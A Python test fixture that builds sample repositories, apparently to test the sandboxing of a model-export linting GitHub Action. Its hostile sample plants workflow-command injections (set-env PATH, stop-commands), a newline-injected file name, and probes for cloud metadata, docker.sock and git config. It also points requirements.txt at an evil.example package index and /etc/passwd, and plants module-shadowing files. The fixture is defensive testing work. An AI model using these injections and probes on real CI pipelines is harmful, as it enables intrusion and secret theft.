"""Four repositories that use the Action: one is clean, one fails, one is hostile, one holds thirty models."""

from __future__ import annotations

import json

from tests.box.conftest import BRANCH, PLAIN

CANARY = "CANARY-of-the-samples"


def configuration(*entries: str) -> str:
    models = (f'[[models]]\nentry = {json.dumps(entry)}\ninputs = {{ x = "float32[n, 3]" }}\n' for entry in entries)
    return 'targets = ["trace"]\n\n' + "\n".join(models)


CLEAN = {"src/plain.py": PLAIN, "exportlint.toml": configuration("src/plain.py::Double")}
FAILING = {
    "src/branch.py": BRANCH,
    "src/plain.py": PLAIN,
    "src/sized.py": """\
from torch import nn


class Sized(nn.Module):
    def forward(self, x):
        n = int(x.shape[0])
        return x.reshape(n * 3)
""",
    "exportlint.toml": configuration("src/branch.py::Gate", "src/plain.py::Double", "src/sized.py::Sized"),
}

COMMANDS = (
    "\\r\\n::add-mask::x\\n::set-env name=PATH::/evil\\n::stop-commands::x\\n::error::planted\\u2028::debug::x\\x1b[2J"
)
HOSTILE_NAME = "src/a\n::error::planted [x](http:y) @everyone <img src=x>\u202e.py"
HOSTILE = {
    HOSTILE_NAME: BRANCH,
    "src/net.py": f"""\
import os
import socket
import sys

import torch
from torch import nn

SAID = "{COMMANDS}"


def tries():
    yield lambda: open("/src/src/planted.py", "w").write("x")
    yield lambda: open("planted.py", "w").write("x")
    yield lambda: socket.create_connection(("1.1.1.1", 53), 3)
    yield lambda: socket.create_connection(("169.254.169.254", 80), 3)
    yield lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")
    yield lambda: open(".git/config").read()
    yield lambda: open("link.txt").read()
    yield lambda: open("untracked.txt").read()
    yield lambda: 1 / ("{CANARY}" in repr(os.environ))


for attempt in tries():
    try:
        attempt()
    except Exception:
        continue
    SAID += " SUCCEEDED"
print(SAID)
print(SAID, file=sys.stderr)


class Shouting(nn.Module):
    \"\"\"@everyone <img src=x>\"\"\"

    def forward(self, x):
        print(SAID)
        if x.sum() > 0:  # ::error::planted
            raise RuntimeError(SAID + " @everyone <img src=x> [x](http:y) | `")
        raise RuntimeError(SAID)


def lying():
    os.write(1, b'{{"status": "ok"}}')
    sys.stderr.write(SAID)
    os._exit(0)
""",
    "requirements.txt": "--index-url https://evil.example/simple\nx @ file:///etc/passwd\n",
    "exportlint.toml": configuration("src/net.py::Shouting", "src/net.py::lying"),
    **dict.fromkeys(
        ("json.py", "sitecustomize.py", "click.py", "exportlint/__init__.py"), "raise SystemExit('planted')\n"
    ),
}

MONOREPO = 30


def monorepo(models: int) -> dict[str, str]:
    """Packages with a model each; every fifth has a branch that a trace freezes."""
    files = {}
    for number in range(models):
        name, text = ("Gate", BRANCH) if number % 5 == 4 else ("Double", PLAIN)
        files[f"packages/p{number:02}/net.py"] = text.replace(name, f"{name}{number:02}")
    entries = [f"{path}::{text.partition('class ')[2].partition('(')[0]}" for path, text in files.items()]
    return {**files, "exportlint.toml": configuration(*entries)}
